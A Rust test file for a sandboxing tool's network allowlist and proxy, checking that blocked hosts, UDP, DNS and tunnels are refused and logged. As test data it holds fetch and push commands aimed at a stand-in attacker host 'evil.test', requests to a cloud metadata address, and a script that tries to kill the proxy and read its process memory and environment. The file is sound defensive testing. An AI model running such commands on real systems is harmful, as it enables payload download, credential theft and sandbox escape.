//! The network allowlist, enforced: the command's own network namespace has only loopback, and
//! the proxy outside the sandbox is its only way out. Every way out is tried through a path the
//! analysis cannot see (a Python client), each with its positive control. The servers are the
//! test's own, on 127.0.0.2, 127.0.0.3 and [::1] of this machine.
#![cfg(target_os = "linux")]

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::lab::{self, Lab, kernel_refused, ok, text};

const SYSTEM: &str = "SANDBOX_BASH_TEST_SYSTEM_CONFIG";
const ALLOW: &str = "SANDBOX_BASH_NETWORK_ALLOW";

/// Whether sandbox-bash denied the program before it ran (the proxy's refusals while it runs
/// are told on stderr too, and do not count).
fn denied_before_running(out: &std::process::Output) -> bool {
    out.status.code() == Some(126) && crate::lab::statically_denied(out)
}

/// How the proxy's line at the end of a run with refusals starts.
const PROXY_SUMMARY: &str = "sandbox-bash: the network proxy refused ";

/// An HTTP server of the test's own on `addr` (port chosen by the kernel). It answers
/// `/redirect?URL` with a redirect to URL and everything else with a line that names its
/// address, the method, the path and the Host it was sent.
fn http_server(addr: &str) -> u16 {
    let listener = TcpListener::bind(format!("{addr}:0")).unwrap();
    let port = listener.local_addr().unwrap().port();
    let me = listener.local_addr().unwrap().ip();
    std::thread::spawn(move || {
        for c in listener.incoming().flatten() {
            std::thread::spawn(move || answer(c, me));
        }
    });
    port
}

fn answer(mut c: TcpStream, me: std::net::IpAddr) {
    let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
        match c.read(&mut b) {
            Ok(1) => head.push(b[0]),
            _ => break,
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let mut words = head.split(' ');
    let (method, path) = (words.next().unwrap_or(""), words.next().unwrap_or(""));
    let host = head.lines().find_map(|l| l.strip_prefix("Host: ")).unwrap_or("-").to_string();
    let response = match path.strip_prefix("/redirect?") {
        Some(to) => format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
        None => {
            let body = format!("HELLO FROM {me} {method} {path} host={host}\n");
            format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
        }
    };
    let _ = c.write_all(response.as_bytes());
}

/// A lab with the client script in its workspace.
fn lab() -> Lab {
    let lab = Lab::new();
    std::fs::write(lab.ws.join("client.py"), include_str!("net/client.py")).unwrap();
    lab
}

/// Runs the client with `args` under `mode` with the environment `env`; its one line.
fn client(lab: &Lab, mode: &str, env: &[(&str, &str)], args: &str) -> String {
    let out = cmd(lab, mode, env, &format!("python3 client.py {args}")).output().unwrap();
    // What sandbox-bash itself says goes to stderr; the proxy's refusals come back in band,
    // and are told on stderr too.
    let err = text(&out.stderr);
    let own = err.lines().filter(|l| !l.ends_with("(held by the network proxy)") && !l.starts_with(PROXY_SUMMARY));
    assert!(own.clone().all(|l| !l.contains("sandbox-bash: error:") && !l.contains("sandbox-bash: denied:")), "{err}");
    text(&out.stdout).trim().to_string()
}

fn cmd(lab: &Lab, mode: &str, env: &[(&str, &str)], program: &str) -> Command {
    let mut c = lab.command(mode, program);
    c.env_remove(SYSTEM).env_remove(ALLOW).env_remove("SANDBOX_BASH_AUDIT_LOG");
    for (k, v) in env {
        c.env(k, v);
    }
    c
}

/// A system configuration file of the test's own.
fn system_file(lab: &Lab, body: &str) -> PathBuf {
    let p = lab.outside.join("system.toml");
    std::fs::write(&p, body).unwrap();
    for (path, mode) in [(&p, 0o644), (&lab.outside, 0o755)] {
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
    }
    p
}

#[test]
fn only_the_proxy_leads_out_and_it_lets_through_what_the_list_allows() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let three = http_server("127.0.0.3");
    let list = [(ALLOW, "127.0.0.2")];
    // Positive control: without a list the mode's network bits reach both hosts directly.
    assert!(client(&lab, "0467", &[], &format!("direct 127.0.0.3 {three}")).contains("HELLO FROM 127.0.0.3"));
    // With the list, a direct connection reaches only the namespace's own loopback, where no
    // one listens: not the host's allowed address, and not a denied one.
    for (host, port) in [("127.0.0.2", two), ("127.0.0.3", three)] {
        let got = client(&lab, "0467", &list, &format!("direct {host} {port}"));
        assert!(got.starts_with("ERR ECONNREFUSED"), "{host}: {got}");
    }
    let got = client(&lab, "0467", &list, "direct 192.0.2.1 80");
    assert!(got.starts_with("ERR ENETUNREACH"), "{got}");
    // Through the proxy: the allowed host answers, the other is refused with the reason.
    let got = client(&lab, "0467", &list, &format!("http GET http://127.0.0.2:{two}/x"));
    assert!(got.contains(&format!("HELLO FROM 127.0.0.2 GET /x host=127.0.0.2:{two}")), "{got}");
    let got = client(&lab, "0467", &list, &format!("http GET http://127.0.0.3:{three}/x"));
    // The reason phrase says why too (clients that show only the status line).
    assert!(got.starts_with(&format!("OK HTTP/1.1 403 denied: 127.0.0.3:{three}: not in the network")), "{got}");
    let line = format!("sandbox-bash: denied: 127.0.0.3:{three}: not in the network allowlist of {ALLOW}");
    assert!(got.contains(&format!("|{line}")), "the header names it: {got}");
    assert!(got.contains(&format!("\"127.0.0.3:{three}\" (or \"127.0.0.3\") in the allow list")), "{got}");
    assert!(!got.contains("HELLO"), "{got}");
    // CONNECT: to the allowed host a tunnel, to the other a 403.
    let got = client(&lab, "0467", &list, &format!("connect 127.0.0.2:{two}"));
    assert!(got.contains("TUNNEL HTTP/1.1 200 OK") && got.contains("HELLO FROM 127.0.0.2"), "{got}");
    let got = client(&lab, "0467", &list, &format!("connect 127.0.0.3:{three}"));
    assert!(got.contains("403 denied: 127.0.0.3") && got.contains(&line), "{got}");
    // SOCKS5 with the name resolved by the proxy: the same.
    let got = client(&lab, "0467", &list, &format!("socks 127.0.0.2 {two}"));
    assert!(got.contains("SOCKS HTTP/1.1 200 OK"), "{got}");
    assert_eq!(client(&lab, "0467", &list, &format!("socks 127.0.0.3 {three}")), "OK SOCKS REPLY 2");
    // A tunnel to an allowed host may not carry a chain or a relay to a denied one.
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    for inner in [
        format!("CONNECT 127.0.0.3:{three} HTTP/1.1\r\n\r\n"),
        format!("GET http://127.0.0.3:{three}/ HTTP/1.1\r\n\r\n"),
        "\x05\x01\x00".to_string(),
    ] {
        let got = client(&lab, "0467", &list, &format!("connect 127.0.0.2:{two} {}", hex(&inner)));
        assert_eq!(got, "OK TUNNEL", "{inner:?} went through: {got}");
    }
    // IPv6: the host's [::1] is neither reached directly nor through the proxy without an entry.
    if let Ok(six) = std::panic::catch_unwind(|| http_server("[::1]")) {
        let got = client(&lab, "0467", &list, &format!("direct ::1 {six}"));
        assert!(got.starts_with("ERR ECONNREFUSED"), "{got}");
        let got = client(&lab, "0467", &list, &format!("http GET http://[::1]:{six}/"));
        assert!(got.contains(&format!("sandbox-bash: denied: [::1]:{six}")), "{got}");
        let got = client(&lab, "0467", &[(ALLOW, "::1")], &format!("http GET http://[::1]:{six}/"));
        assert!(got.contains("HELLO FROM ::1"), "{got}");
    }
}

#[test]
fn datagrams_and_names_go_nowhere() {
    let lab = lab();
    let udp = UdpSocket::bind("127.0.0.3:0").unwrap();
    let port = udp.local_addr().unwrap().port();
    udp.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    let list = [(ALLOW, "127.0.0.3")];
    // Positive control: without the list the datagram arrives.
    assert_eq!(client(&lab, "0467", &[], &format!("udp 127.0.0.3 {port}")), "OK sent");
    let mut buf = [0u8; 64];
    let n = udp.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"UDP CANARY");
    // With it, even to an allowed address, it stays in the namespace.
    let got = client(&lab, "0467", &list, &format!("udp 127.0.0.3 {port}"));
    assert!(got == "OK sent" || got.starts_with("ERR"), "{got}");
    assert!(udp.recv(&mut buf).is_err(), "a datagram left the namespace");
    // ICMP to a host outside has no route (root with system execute, which may send it); the
    // positive control sends it.
    assert_eq!(client(&lab, "1467", &[], "icmp 192.0.2.1"), "OK sent");
    let got = client(&lab, "1467", &list, "icmp 192.0.2.1");
    assert!(got.starts_with("ERR ENETUNREACH"), "{got}");
    // No resolver is reachable: names are the proxy's to resolve.
    let got = client(&lab, "0467", &list, "dns sandbox-bash-test.invalid");
    assert!(got.starts_with("ERR"), "{got}");
}

#[test]
fn read_only_network_lets_through_what_only_reads() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let list = [(ALLOW, "127.0.0.2")];
    let get = client(&lab, "0447", &list, &format!("http GET http://127.0.0.2:{two}/r"));
    assert!(get.contains("HELLO FROM 127.0.0.2 GET /r"), "{get}");
    for args in [format!("http POST http://127.0.0.2:{two}/w data"), format!("http GET http://127.0.0.2:{two}/w body")]
    {
        let got = client(&lab, "0447", &list, &args);
        assert!(got.contains("HTTP/1.1 403 denied: ") && got.contains("network read only"), "{args}: {got}");
        assert!(!got.contains("HELLO"), "{got}");
        // Positive control: with network write the same request goes through.
        assert!(client(&lab, "0467", &list, &args).contains("HELLO FROM 127.0.0.2"), "{args}");
    }
    // A plain request that writes may not hide in a tunnel either.
    let hex: String = "POST /w HTTP/1.0\r\nContent-Length: 1\r\n\r\nx".bytes().map(|b| format!("{b:02x}")).collect();
    assert_eq!(client(&lab, "0447", &list, &format!("connect 127.0.0.2:{two} {hex}")), "OK TUNNEL");
    assert!(client(&lab, "0467", &list, &format!("connect 127.0.0.2:{two} {hex}")).contains("HELLO"));
}

#[test]
fn names_are_resolved_by_the_proxy_pins_hold_and_metadata_is_never_reached() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let system = system_file(
        &lab,
        "[network]\nallow = [\"mirror.test\", \"meta.test\", \"127.0.0.2\"]\n\
         resolve = { \"mirror.test\" = \"127.0.0.2\", \"meta.test\" = \"169.254.169.254\" }\n",
    );
    let sys = system.to_str().unwrap();
    let env = [(SYSTEM, sys)];
    let got = client(&lab, "0467", &env, &format!("http GET http://mirror.test:{two}/p"));
    assert!(got.contains(&format!("HELLO FROM 127.0.0.2 GET /p host=mirror.test:{two}")), "{got}");
    let got = client(&lab, "0467", &env, "http GET http://meta.test/latest/meta-data/");
    assert!(got.contains("403") && got.contains("loopback, link-local or metadata address"), "{got}");
    // The proxy follows no redirect: the client gets it, and its next request is checked anew.
    let to = "http://meta.test/latest/";
    let got = client(&lab, "0467", &env, &format!("http GET http://127.0.0.2:{two}/redirect?{to}"));
    assert!(got.starts_with("OK HTTP/1.1 302 Found|Location: http://meta.test/latest/"), "{got}");
    let out = cmd(&lab, "0467", &env, &format!("curl -sSL http://127.0.0.2:{two}/redirect?{to}")).output().unwrap();
    assert!(text(&out.stdout).contains("sandbox-bash: denied: meta.test:80"), "{}", text(&out.stderr));
}

/// Each refusal reaches the command's own stderr, whatever the client shows of it (a CONNECT's
/// 403, a SOCKS reply code), naming the destination, the entry that would allow it and the
/// proxy that held it; the run ends with one line that sums them up. What the list allows
/// prints nothing.
#[test]
fn refusals_reach_the_commands_stderr_and_the_run_ends_with_a_summary() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let three = http_server("127.0.0.3");
    let four = http_server("127.0.0.3");
    let env = [(ALLOW, "127.0.0.2")];
    let allowed = format!(
        "python3 client.py http GET http://127.0.0.2:{two}/; python3 client.py connect 127.0.0.2:{two};          python3 client.py socks 127.0.0.2 {two}"
    );
    let out = cmd(&lab, "0467", &env, &allowed).output().unwrap();
    ok(&out);
    assert_eq!(text(&out.stderr), "", "nothing refused, nothing said");
    let refused = format!(
        "python3 client.py http GET http://127.0.0.3:{three}/; python3 client.py connect 127.0.0.3:{four}; \
         python3 client.py socks 127.0.0.9 81; python3 client.py http GET http://127.0.0.3:{three}/again"
    );
    let out = cmd(&lab, "0467", &env, &refused).output().unwrap();
    ok(&out);
    let err = text(&out.stderr);
    let lines: Vec<&str> = err.lines().collect();
    let told: Vec<&&str> = lines.iter().filter(|l| l.ends_with("(held by the network proxy)")).collect();
    assert_eq!(told.len(), 3, "once per destination: {err}");
    for (line, dest) in
        told.iter().zip([format!("127.0.0.3:{three}"), format!("127.0.0.3:{four}"), "127.0.0.9:81".into()])
    {
        assert!(
            line.starts_with(&format!("sandbox-bash: denied: {dest}: not in the network allowlist of {ALLOW}")),
            "{line}"
        );
        assert!(line.contains(&format!("\"{dest}\"")) && line.contains("would allow it"), "{line}");
    }
    // The summary, then how to ask for those hosts once.
    let (summary, hint) = (lines[lines.len() - 2], lines[lines.len() - 1]);
    assert!(
        summary.starts_with(&format!(
            "{PROXY_SUMMARY}3 destinations in this run: 127.0.0.3:{three}, 127.0.0.3:{four}, 127.0.0.9:81; to allow: "
        )),
        "{err}"
    );
    assert_eq!(
        hint,
        format!(
            "sandbox-bash: request: to run this once with more access, make its first line # sandbox-bash: request \
             0467 host 127.0.0.3:{three},127.0.0.3:{four},127.0.0.9:81 because REASON"
        ),
        "{err}"
    );
}

#[test]
fn denials_are_recorded_once_per_destination() {
    let lab = lab();
    let three = http_server("127.0.0.3");
    let log = lab.outside.join("audit.log");
    let log_s = log.to_str().unwrap();
    let env = [(ALLOW, "127.0.0.2"), ("SANDBOX_BASH_AUDIT_LOG", log_s)];
    let program = format!(
        "python3 client.py http GET http://127.0.0.3:{three}/; python3 client.py http GET http://127.0.0.3:{three}/b; \
         python3 client.py socks 127.0.0.9 81"
    );
    ok(&cmd(&lab, "0467", &env, &program).output().unwrap());
    let records: Vec<serde_json::Value> =
        std::fs::read_to_string(&log).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let net: Vec<&serde_json::Value> = records.iter().filter(|r| r["event"] == "network").collect();
    assert_eq!(net.len(), 2, "{records:#?}");
    assert_eq!(net[0]["host"], "127.0.0.3");
    assert_eq!(net[0]["port"], three);
    assert_eq!(net[0]["verdict"], "deny");
    assert!(net[0]["reason"].as_str().unwrap().starts_with("sandbox-bash: denied: 127.0.0.3:"));
    assert_eq!((net[1]["host"].as_str(), net[1]["method"].as_str()), (Some("127.0.0.9"), Some("SOCKS5")));
    // The command's record and the proxy's name the same process.
    assert_eq!(net[0]["pid"], records[0]["pid"]);
}

/// The proxy holds no log: it sends its refusals to the supervisor, which keeps the log for
/// them after the command closed its audit channel, and takes a refusal of any size (a host of
/// 300 two-byte characters).
#[test]
fn refusals_are_recorded_after_the_audit_channel_is_closed_and_whatever_their_size() {
    let lab = lab();
    let three = http_server("127.0.0.3");
    let log = lab.outside.join("audit.log");
    let log_s = log.to_str().unwrap();
    let env = [(ALLOW, "127.0.0.2"), ("SANDBOX_BASH_AUDIT_LOG", log_s)];
    let long = "\u{e9}".repeat(300);
    let program = format!(
        "eval \"exec $SANDBOX_BASH_AUDIT_CHANNEL>&-\"; sleep 0.3; python3 client.py http GET http://127.0.0.3:{three}/; \
         python3 client.py connect {long}.example:443"
    );
    let out = ok(&cmd(&lab, "0467", &env, &program).output().unwrap());
    assert!(out.contains("403"), "{out}");
    // The supervisor writes them when they come; give it the moment the proxy takes.
    let mut net: Vec<serde_json::Value> = Vec::new();
    for _ in 0..50 {
        let records: Vec<serde_json::Value> =
            std::fs::read_to_string(&log).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        net = records.into_iter().filter(|r| r["event"] == "network").collect();
        if net.len() == 2 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert_eq!(net.len(), 2, "{net:#?}");
    assert_eq!(net[0]["host"], "127.0.0.3");
    let host = net[1]["host"].as_str().unwrap();
    assert!(host.starts_with("\u{e9}\u{e9}") && host.len() <= 255, "{host}");
}

#[test]
fn the_commands_own_servers_and_forwarded_host_ports_work_as_before() {
    let lab = lab();
    // A host service on loopback: reached only when `loopback` names its port.
    let host_service = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host_service.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in host_service.incoming().flatten() {
            let _ = c.write_all(b"HOST SERVICE\n");
        }
    });
    let without = system_file(&lab, "[network]\nallow = [\"127.0.0.2\"]\n");
    let got = client(&lab, "0467", &[(SYSTEM, without.to_str().unwrap())], &format!("direct 127.0.0.1 {port}"));
    assert!(got.starts_with("ERR ECONNREFUSED"), "{got}");
    let with = system_file(&lab, &format!("[network]\nallow = [\"127.0.0.2\"]\nloopback = [{port}]\n"));
    let got = client(&lab, "0467", &[(SYSTEM, with.to_str().unwrap())], &format!("direct 127.0.0.1 {port}"));
    assert_eq!(got, "OK HOST SERVICE|");
    // A server the command starts and its client, on the namespace's loopback, as before.
    let program = "python3 -m http.server 18765 --bind 127.0.0.1 >/dev/null 2>&1 & for i in 1 2 3 4 5 6 7 8 9 10; do \
                   curl -s -o /dev/null -w '%{http_code}\\n' http://localhost:18765/ && break; sleep 0.3; done; kill %1";
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], program).output().unwrap();
    assert!(text(&out.stdout).contains("200"), "{}{}", text(&out.stdout), text(&out.stderr));
}

/// The proxy processes of runs whose environment holds `tag`: their pids and states.
fn proxies(tag: &str) -> Vec<(u32, char)> {
    let sb = std::fs::canonicalize(lab::SB).unwrap();
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else { continue };
        let p = e.path();
        if std::fs::read_link(p.join("exe")).ok().as_deref() != Some(sb.as_path()) {
            continue;
        }
        // The proxy names itself (the run's supervisor is another process of the same program).
        if std::fs::read_to_string(p.join("comm")).unwrap_or_default().trim() != "sb-proxy" {
            continue;
        }
        let Ok(environ) = std::fs::read(p.join("environ")) else { continue };
        if !environ.split(|&b| b == 0).any(|v| v == tag.as_bytes()) {
            continue;
        }
        let stat = std::fs::read_to_string(p.join("stat")).unwrap_or_default();
        let state = stat.rsplit_once(") ").and_then(|(_, r)| r.chars().next()).unwrap_or('?');
        out.push((pid, state));
    }
    out
}

fn wait_gone(tag: &str, within: Duration) -> bool {
    let until = Instant::now() + within;
    while Instant::now() < until {
        if proxies(tag).iter().all(|(_, s)| *s == 'Z') {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    false
}

#[test]
fn the_proxy_outlives_nothing_and_cannot_be_touched_from_inside() {
    let lab = lab();
    let tag = format!("SBX_PROXY_TAG={}", std::process::id());
    let (k, v) = tag.split_once('=').unwrap();
    // A command and what it leaves running: the proxy stays while the background job lives.
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2"), (k, v)], "sleep 2 >/dev/null 2>&1 & echo started")
        .stdout(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(ok(&out), "started\n", "the caller got the output to its end without waiting for the proxy");
    let live: Vec<u32> = proxies(&tag).iter().filter(|(_, s)| *s != 'Z').map(|(p, _)| *p).collect();
    assert_eq!(live.len(), 1, "one proxy while the job lives: {:?}", proxies(&tag));
    let pid = live[0];
    // From inside a sandbox: no signal, no trace, no memory.
    let attack = format!(
        "import os\nfor name, act in [('kill', lambda: os.kill({pid}, 9)), ('mem', lambda: open('/proc/{pid}/mem', 'rb').read(1)), \
         ('environ', lambda: open('/proc/{pid}/environ', 'rb').read())]:\n    try:\n        act(); print(name, 'DONE')\n    \
         except OSError as e:\n        print(name, e.strerror)\n"
    );
    std::fs::write(lab.ws.join("attack.py"), attack).unwrap();
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], "python3 attack.py").output().unwrap();
    let said = text(&out.stdout);
    assert!(!said.contains("DONE"), "{said}");
    kernel_refused(&out, &[]);
    assert!(proxies(&tag).iter().any(|(p, s)| *p == pid && *s != 'Z'), "the proxy was killed from inside");
    // It ends once the job has ended.
    assert!(wait_gone(&tag, Duration::from_secs(6)), "the proxy outlived its command: {:?}", proxies(&tag));
    // A command with nothing left behind: its proxy ends with it.
    ok(&cmd(&lab, "0467", &[(ALLOW, "127.0.0.2"), (k, v)], "true").output().unwrap());
    assert!(wait_gone(&tag, Duration::from_secs(2)), "{:?}", proxies(&tag));
}

#[test]
fn ssh_style_tunnels_through_sandbox_connect() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let three = http_server("127.0.0.3");
    let program = |host: &str, port: u16| {
        format!("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | {} --sandbox-connect {host} {port}", lab::SB)
    };
    let env = [(ALLOW, "127.0.0.2")];
    let out = cmd(&lab, "0467", &env, &program("127.0.0.2", two)).output().unwrap();
    assert!(ok(&out).contains("HELLO FROM 127.0.0.2"));
    let out = cmd(&lab, "0467", &env, &program("127.0.0.3", three)).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).starts_with(&format!("sandbox-bash: denied: 127.0.0.3:{three}:")),
        "{}",
        text(&out.stderr)
    );
    // Outside a sandbox with a list, it says where it works.
    let out = Command::new(lab::SB)
        .args(["--sandbox-connect", "127.0.0.2", "1"])
        .env_remove("SANDBOX_BASH_PROXY")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(text(&out.stderr).contains("SANDBOX_BASH_PROXY"), "{}", text(&out.stderr));
}

#[test]
fn nested_invocations_cannot_widen_and_an_unheld_list_means_no_network() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let three = http_server("127.0.0.3");
    let sb = lab::SB;
    let inner = |allow: &str, args: String| format!("{allow} {sb} -c \"python3 client.py {args}\"");
    // Inside a run with a list, an inner run that names a wider one is still bound by the
    // outer namespace: the denied host stays denied.
    let env = [(ALLOW, "127.0.0.2")];
    let out = cmd(
        &lab,
        "0467",
        &env,
        &inner(&format!("{ALLOW}=127.0.0.2,127.0.0.3"), format!("http GET http://127.0.0.3:{three}/")),
    )
    .output()
    .unwrap();
    assert!(!text(&out.stdout).contains("HELLO FROM 127.0.0.3"));
    kernel_refused(&out, &[]);
    // An inner run under the same system list, without the variable the outer one had (it is
    // not passed on), goes through the outer proxy, which holds the narrower list.
    let system = system_file(&lab, "[network]\nallow = [\"127.0.0.2\", \"127.0.0.3\"]\n");
    let sys = system.to_str().unwrap();
    let out = cmd(
        &lab,
        "0467",
        &[(SYSTEM, sys), (ALLOW, "127.0.0.2")],
        &inner(&format!("{SYSTEM}={sys}"), format!("http GET http://127.0.0.2:{two}/")),
    )
    .output()
    .unwrap();
    assert!(text(&out.stdout).contains("HELLO FROM 127.0.0.2"), "{}{}", text(&out.stdout), text(&out.stderr));
    let out = cmd(
        &lab,
        "0467",
        &[(SYSTEM, sys), (ALLOW, "127.0.0.2")],
        &inner(&format!("{SYSTEM}={sys}"), format!("http GET http://127.0.0.3:{three}/")),
    )
    .output()
    .unwrap();
    assert!(
        text(&out.stdout).contains("HTTP/1.1 403 denied: ") && !text(&out.stdout).contains("HELLO"),
        "{}",
        text(&out.stdout)
    );
    // An inner run with the same list keeps the outer proxy.
    let out = cmd(&lab, "0467", &env, &inner("", format!("http GET http://127.0.0.2:{two}/"))).output().unwrap();
    assert!(text(&out.stdout).contains("HELLO FROM 127.0.0.2"), "{}", text(&out.stderr));
    // A list no enclosing run holds, where no namespace can be had: no network at all.
    let out = cmd(&lab, "0467", &[], &inner(&format!("{ALLOW}=127.0.0.3"), format!("direct 127.0.0.3 {three}")))
        .output()
        .unwrap();
    kernel_refused(&out, &[]);
    let out = cmd(&lab, "0467", &[], &format!("{ALLOW}=127.0.0.3 {sb} -c 'curl -s http://127.0.0.3:{three}/'"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("nested invocation cannot have a network namespace"), "{}", text(&out.stderr));
}

#[test]
fn info_says_how_the_network_is_held() {
    let lab = lab();
    let info = |env: &[(&str, &str)]| {
        let mut c = Command::new(lab::SB);
        c.arg("--sandbox-info").current_dir(&lab.ws).env("BASH_AGENT_BASH_MODE", "0467");
        c.env("SANDBOX_BASH_WORKSPACE", &lab.ws)
            .env_remove(SYSTEM)
            .env_remove(ALLOW)
            .env_remove("SANDBOX_BASH_ENFORCED");
        for (k, v) in env {
            c.env(k, v);
        }
        ok(&c.output().unwrap())
    };
    let open = info(&[]);
    assert!(open.contains("every host"), "{open}");
    let held = info(&[(ALLOW, "127.0.0.2")]);
    assert!(held.contains("by host: the command's own network namespace has only loopback"), "{held}");
    assert!(held.contains(ALLOW) && !held.contains("every host"), "{held}");
    // Which refusals while a command runs are told to it, and which are only its own errors.
    assert!(
        held.contains("\n  told    network: a destination the proxy refuses is told on the command's stderr"),
        "{held}"
    );
    assert!(held.contains("\n  told    files: an open, change or run of a path that the kernel refuses"), "{held}");
    assert!(open.contains("\n  untold  network: no allowlist is in force"), "{open}");
    // A wrong entry is an error that names the variable.
    let out = cmd(&lab, "0467", &[(ALLOW, "a b")], "true").output().unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(text(&out.stderr).contains(ALLOW), "{}", text(&out.stderr));
}

#[test]
fn literal_hosts_the_list_refuses_are_denied_before_anything_runs() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    let three = http_server("127.0.0.3");
    let env = [(ALLOW, "127.0.0.2,*.allowed.test")];
    let out = cmd(&lab, "0467", &env, &format!("curl -s http://127.0.0.3:{three}/ > got.txt")).output().unwrap();
    assert_eq!(out.status.code(), Some(126));
    assert_eq!(
        text(&out.stderr),
        format!(
            "sandbox-bash: denied: 127.0.0.3:{three}: not in the network allowlist of {ALLOW}; the entry \
             \"127.0.0.3:{three}\" (or \"127.0.0.3\") in the allow list of {ALLOW} would allow it (curl at line 1:1)\n\
             sandbox-bash: request: to run this once with more access, make its first line # sandbox-bash: request 0467 \
             host 127.0.0.3:{three} because REASON\n"
        )
    );
    assert!(!lab.ws.join("got.txt").exists(), "nothing ran");
    for (program, host) in [
        ("wget -q -O- https://evil.test/x", "evil.test:443"),
        ("git clone https://evil.test/r.git", "evil.test:443"),
        ("pip download -i https://evil.test/simple x", "evil.test:443"),
        ("cargo fetch --config 'source.x.registry=\"sparse+https://evil.test/\"' https://evil.test/i", "evil.test:443"),
        ("npm install --registry=https://evil.test/ left-pad", "evil.test:443"),
    ] {
        let out = cmd(&lab, "0467", &env, program).output().unwrap();
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(126), "{program}: {err}");
        assert!(
            err.contains(&format!("sandbox-bash: denied: {host}: not in the network allowlist")),
            "{program}: {err}"
        );
    }
    // What the list allows runs (through the proxy), and so do names the static layer cannot
    // judge (a remote's name, a registry's default host): the proxy holds those.
    let got = ok(&cmd(&lab, "0467", &env, &format!("curl -s http://127.0.0.2:{two}/ok")).output().unwrap());
    assert!(got.contains("HELLO FROM 127.0.0.2 GET /ok"), "{got}");
    let out = cmd(&lab, "0467", &env, "git ls-remote https://www.allowed.test/r.git").output().unwrap();
    assert!(!denied_before_running(&out), "{}", text(&out.stderr));
    // (The name does not resolve here: the proxy refuses it, and says so.)
    assert!(text(&out.stderr).contains("www.allowed.test:443: the name does not resolve"), "{}", text(&out.stderr));
    // An ssh-style host may be an alias of ssh's own configuration: only a deny entry judges it
    // before it runs (the proxy judges the real name through --sandbox-connect).
    let out = cmd(&lab, "0467", &env, "ssh -o BatchMode=yes deploy@github.com-work true").output().unwrap();
    assert!(!denied_before_running(&out), "{}", text(&out.stderr));
    let system = system_file(&lab, "[network]\nallow = [\"127.0.0.2\"]\ndeny = [\"evil.test\"]\n");
    let out =
        cmd(&lab, "0467", &[(SYSTEM, system.to_str().unwrap())], "git push git@evil.test:o/r.git").output().unwrap();
    assert_eq!(out.status.code(), Some(126), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("evil.test: the entry \"evil.test\""), "{}", text(&out.stderr));
    // --sandbox-explain says the same in its JSON.
    let mut c = Command::new(lab::SB);
    c.args(["--sandbox-explain", "--sandbox-json", "-c", &format!("curl http://127.0.0.3:{three}/")]);
    c.current_dir(&lab.ws).env("SANDBOX_BASH_WORKSPACE", &lab.ws).env(ALLOW, "127.0.0.2").env_remove(SYSTEM);
    let out = c.output().unwrap();
    assert_eq!(out.status.code(), Some(126));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["verdict"], "deny");
    assert!(doc["hosts_refused"][0].as_str().unwrap().starts_with(&format!("127.0.0.3:{three}: not in")), "{doc}");
}

/// A static file server of the test's own on 127.0.0.2: `root`'s files, `index.html` for a
/// directory.
fn file_server(root: PathBuf) -> u16 {
    let listener = TcpListener::bind("127.0.0.2:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            let root = root.clone();
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut b = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && c.read(&mut b).is_ok_and(|n| n == 1) {
                    head.push(b[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let path = head.split(' ').nth(1).unwrap_or("/").split('?').next().unwrap_or("/").to_string();
                let mut file = root.join(path.trim_start_matches('/'));
                if file.is_dir() {
                    file = file.join("index.html");
                }
                let response = match std::fs::read(&file) {
                    Ok(body) if !path.contains("..") => {
                        let kind = if file.extension().is_some_and(|e| e == "html") {
                            "text/html"
                        } else {
                            "application/octet-stream"
                        };
                        let mut r = format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        )
                        .into_bytes();
                        r.extend(body);
                        r
                    }
                    _ => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec(),
                };
                let _ = c.write_all(&response);
            });
        }
    });
    port
}

